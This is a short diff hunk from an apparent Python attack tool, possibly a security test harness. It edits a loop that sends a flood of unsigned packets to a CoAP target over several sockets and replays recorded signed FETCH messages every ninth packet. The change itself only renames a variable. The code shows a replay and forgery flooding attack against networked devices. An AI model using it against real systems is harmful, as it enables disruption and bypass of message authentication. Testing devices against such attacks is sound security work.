@@ -43,8 +43,8 @@ def attack(target):
     sent = forged = 0
     with Bystander(PORTS, target.address) as victim, Stranger(target) as signer:
         recorded = [coap.build(signer.message(coap.FETCH, path)[0]) for path in PATHS]
-        for n, data in enumerate(itertools.islice(unsigned(), target.count)):
-            data = recorded[n // 9 % len(recorded)] if n % 9 == 0 else data
+        for n, plain in enumerate(itertools.islice(unsigned(), target.count)):
+            data = recorded[n // 9 % len(recorded)] if n % 9 == 0 else plain
             victim.sockets[n % PORTS].sendto(data, target.address)
             sent, forged = sent + 1, forged + len(data)
             time.sleep(PAUSE_S)
